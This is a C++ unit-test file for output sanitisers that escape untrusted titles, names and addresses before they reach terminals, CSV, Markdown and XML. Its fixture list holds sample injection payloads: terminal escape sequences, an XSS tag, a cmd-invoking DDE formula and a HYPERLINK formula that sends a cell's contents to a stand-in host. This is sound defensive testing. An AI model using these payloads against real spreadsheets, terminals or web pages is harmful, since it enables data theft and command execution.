// The gates: what a page may put into a title, a name or an address, against every sink.
#include "corpus/base/sinks.h"

#include <gtest/gtest.h>

#include "corpus/base/cli/table.h"
#include "corpus/base/json.h"
#include "corpus/base/utf8.h"

namespace dossier {
namespace {

// Of our own: each kind that a sink could act on.
const std::vector<std::string> kHostile = {
    "\x1b]0;title\x07\x1b[31mred\x1b[2J",
    "a\xC2\x9B"
    "31mC1\xC2\x9D"
    "0;x\xC2\x9C",
    "\xE2\x80\xAE"
    "desrever\xE2\x81\xA6"
    "isolated\xE2\x81\xA9",
    std::string("nul\0in", 6),
    "one\r\ntwo\nthree\rfour",
    "\xEF\xBF\xBF\xEF\xBF\xBE\x0b\x0c\x7f",
    "<script>x</script><img src=x onerror=y>\"'>",
    "=HYPERLINK(\"http://h.example/?\"&A1)",
    "+1+cmd|' /C x'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "[click](javascript:x) ![i](http://h.example/p.png) `c` **b** | pipe <b> [^1]: note",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "---",
    "| a | b |",
    "~~~",
    "=====",
    "\xFF\xFE bad bytes \xC3",
};

TEST(Sinks, WhenTextIsPrinted_ThenNothingInItActsOnATerminal) {
  for (const std::string& text : kHostile) {
    const std::string printed = Printable(text);
    EXPECT_TRUE(IsValidUtf8(printed));
    for (size_t i = 0; i < printed.size();) {
      const char32_t c = NextCodePoint(printed, i);
      EXPECT_FALSE(IsActing(c) && !(c == '\r' && printed.substr(i, 1) == "\n")) << static_cast<uint32_t>(c) << printed;
    }
  }
  EXPECT_EQ(Printable("\x1b[31m \xE2\x80\xAE"), "\\u001b[31m \\u202e");
  EXPECT_EQ(Printable("plain \xC3\xA9 \xE4\xB8\xAD\n\ttext"), "plain \xC3\xA9 \xE4\xB8\xAD\n\ttext");
}

TEST(Sinks, WhenJsonIsPrinted_ThenAProgramReadsTheSameText) {
  for (const std::string& hostile : kHostile) {
    const std::string text = RepairUtf8(hostile) + "\xF0\x9F\xBF\xBF";  // a noncharacter of another plane
    const auto read = ParseJson(Printable(DumpJson(Json{{"text", text}}, 2)), "printed");
    ASSERT_TRUE(read) << read.error().message;
    EXPECT_EQ(StringAt(*read, "text"), text);
  }
}

TEST(Sinks, WhenACellLooksLikeAFormula_ThenItIsText) {
  EXPECT_EQ(CsvCell("=1+1"), "'=1+1");
  EXPECT_EQ(CsvCell("@SUM(1)"), "'@SUM(1)");
  EXPECT_EQ(CsvCell("\t=1"), "'\t=1");
  EXPECT_EQ(CsvCell("-2+3"), "'-2+3");
  EXPECT_EQ(CsvCell("+1,\"2\""), "\"'+1,\"\"2\"\"\"");
  for (const char* number : {"-5", "+12.5", "7"}) EXPECT_EQ(CsvCell(number), number);
  EXPECT_EQ(CsvCell("a=b"), "a=b");
}

TEST(Sinks, WhenTextGoesIntoMarkdown_ThenNoMarkOfItIsRead) {
  for (const std::string& hostile : kHostile) {
    for (const std::string& out : {MarkdownText(hostile), MarkdownLine(hostile)}) {
      EXPECT_EQ(out.find('\n'), std::string::npos);
      for (size_t i = 0; i < out.size(); ++i) {
        if (std::string_view("`*[]<>|").find(out[i]) == std::string_view::npos) continue;
        EXPECT_TRUE(i > 0 && out[i - 1] == '\\') << out;
      }
    }
  }
  EXPECT_EQ(MarkdownText("# a"), "\\# a");
  EXPECT_EQ(MarkdownText("- a"), "\\- a");
  EXPECT_EQ(MarkdownText("12. a"), "12\\. a");
  EXPECT_EQ(MarkdownText("12 a"), "12 a");
  EXPECT_EQ(MarkdownLine("[x] at https://a.example/b_c(d). Done"), "\\[x\\] at https://a.example/b_c(d). Done");
  EXPECT_EQ(MarkdownLine("https://a.example/](javascript:x)"), "https://a.example/%5D(javascript:x)");
  Table table{{{"a|b"}, {"link", false, false, true}}, {{"x | `y`\nz", "[id](https://a.example/)"}}};
  EXPECT_EQ(RenderMarkdown(table), "| a\\|b | link |\n| --- | --- |\n| x \\| \\`y\\` z | [id](https://a.example/) |\n");
}

TEST(Sinks, WhenAnAddressGoesIntoMarkdown_ThenItStaysOneLinkToTheWeb) {
  EXPECT_EQ(MarkdownAddress("https://a.example/b)c [d] <e> \"f\""),
            "https://a.example/b%29c%20%5Bd%5D%20%3Ce%3E%20%22f%22");
  EXPECT_EQ(MarkdownAddress("https://u:p@a.example/x"), "https://a.example/x");
  for (const char* other : {"javascript:x", "data:text/html,x", "file:///a", "", "JAVASCRIPT:x"})
    EXPECT_EQ(MarkdownAddress(other), "") << other;
}

TEST(Sinks, WhenTextGoesIntoMarkup_ThenXmlCanHoldItAndNoElementComesOfIt) {
  for (const std::string& hostile : kHostile) {
    const std::string out = EscapeMarkup(hostile);
    EXPECT_EQ(out.find_first_of("<>\""), std::string::npos) << out;
    for (size_t i = 0; i < out.size();) {
      const char32_t c = NextCodePoint(out, i);
      EXPECT_TRUE(c == '\r' || !IsActing(c)) << static_cast<uint32_t>(c);
    }
  }
  EXPECT_EQ(EscapeMarkup("a\xEF\xBF\xBF<&>\"\xC3\xA9"), "a&lt;&amp;&gt;&quot;\xC3\xA9");
}

TEST(Sinks, WhenAnAddressHasAUserAndAPassword_ThenNeitherIsShown) {
  EXPECT_EQ(WithoutUserinfo("https://user:secret@a.example/x?y=@z"), "https://a.example/x?y=@z");
  EXPECT_EQ(WithoutUserinfo("https://a@b@c.example"), "https://c.example");
  EXPECT_EQ(WithoutUserinfo("https://a.example/@x"), "https://a.example/@x");
  EXPECT_EQ(WithoutUserinfo("mailto:a@b.example"), "mailto:a@b.example");
}

TEST(Sinks, WhenAnAddressHasAFragment_ThenTheTextFragmentJoinsIt) {
  EXPECT_EQ(WithTextFragment("https://a.example/x", "#:~:text=a"), "https://a.example/x#:~:text=a");
  EXPECT_EQ(WithTextFragment("https://a.example/x#part", "#:~:text=a"), "https://a.example/x#part:~:text=a");
  EXPECT_EQ(WithTextFragment("https://a.example/x#part", ""), "https://a.example/x#part");
}

TEST(Sinks, WhenALineIsLong_ThenPeopleSeeItsBeginningAndHowLongItIs) {
  EXPECT_EQ(ShownLine("a  b\nc"), "a b c");
  const std::string shown = ShownLine(std::string(100000, 'x'), 10);
  EXPECT_EQ(shown, "xxxxxxxxxx... (100000 characters)");
  const Table table{{{"url"}}, {{std::string(100000, 'u')}}};
  EXPECT_LT(RenderText(table, 100).size(), 2000u);
  EXPECT_GT(RenderCsv(table).size(), 100000u) << "programs get all of it";
}

}  // namespace
}  // namespace dossier
